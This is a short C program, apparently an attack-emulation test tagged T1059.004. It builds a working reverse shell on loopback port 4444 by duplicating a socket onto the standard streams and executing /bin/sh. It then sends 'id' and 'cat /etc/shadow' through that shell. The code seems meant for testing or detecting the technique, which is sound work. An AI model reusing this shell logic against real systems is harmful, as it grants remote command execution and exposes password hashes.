/* T1059.004: connects to a listener, makes the connection its input and output, and becomes a shell. */
#include "loopback.h"

#define ORDERS "id\ncat /etc/shadow\nexit\n"

int main(void)
{
    char *shell[] = {(char *)"sh", NULL}, *environment[] = {NULL}, text[256];
    int32_t server = listener(4444), child = CALL(CLONE, CLONE_FORK), count, all = 0;
    if (child == 0) {
        int32_t socket = connection(4444);
        for (int32_t descriptor = 0; descriptor < 3; descriptor++)
            if (CALL(DUP3, socket, descriptor, 0) < 0)
                leave(1);
        leave(CALL(EXECVE, "/bin/sh", shell, environment) != 0);
    }
    struct abi_pollfd polled = {server, POLLIN, 0};
    struct abi_timespec patience = {2, 0};
    if (CALL(PPOLL, &polled, 1, &patience) == 1) {
        int32_t peer = CALL(ACCEPT, server, 0, 0);
        CALL(SENDTO, peer, ORDERS, sizeof ORDERS - 1, MSG_NOSIGNAL);
        while ((count = CALL(RECVFROM, peer, text, sizeof text, 0)) > 0) {
            print_bytes(text, (uint32_t)count);
            all += count;
        }
    }
    ended(child);
    print(all > 40 ? "done\n" : "no\n");
    return all <= 40;
}
